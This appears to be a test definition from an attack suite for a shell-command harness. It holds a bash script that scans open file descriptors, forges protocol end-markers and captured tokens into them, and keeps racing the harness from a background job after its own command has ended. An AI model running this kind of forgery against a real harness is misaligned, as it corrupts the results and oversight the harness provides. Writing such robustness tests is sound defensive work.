import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'background-forger',
  class: 'shell-protocol',
  languages: ['any'],
  why: "runs the end-marker forger from a background job after its command has ended, racing the harness's next command for the protocol's descriptors",
  commands: [
    String.raw`( open=''
for fd in $(seq 0 1023); do { : >&"$fd"; } 2>/dev/null && open="$open $fd"; done
echo "open descriptors:$open"
forged=0
forge() {
  local fd f line
  for fd in $open; do { printf 'E 0\n' >&"$fd"; } 2>/dev/null; done
  for fd in $open; do
    if { read -r -t 0.2 -u "$fd" line; } 2>/dev/null && [[ $line =~ ^[0-9a-f]{16,64}$ ]]; then
      printf '%s' "$line"; printf '%s' "$line" >&2
      for f in $open; do { printf 'M %s\n' "$line" >&"$f"; } 2>/dev/null; done
      return 0
    fi
  done
  return 1
}
forge && forged=1
echo "forged $forged"
(exit 5) ) > /tmp/.forger 2>&1 &
echo started`,
    String.raw`echo run-1 >> /tmp/.proof; echo run-1`,
    String.raw`echo run-2 >> /tmp/.proof; sleep 1; cat /tmp/.proof /tmp/.forger 2>&1 | tail -n 5`,
  ],
  timeoutMs: 30_000,
  parallelSafe: true,
  expected: ['graded'],
});
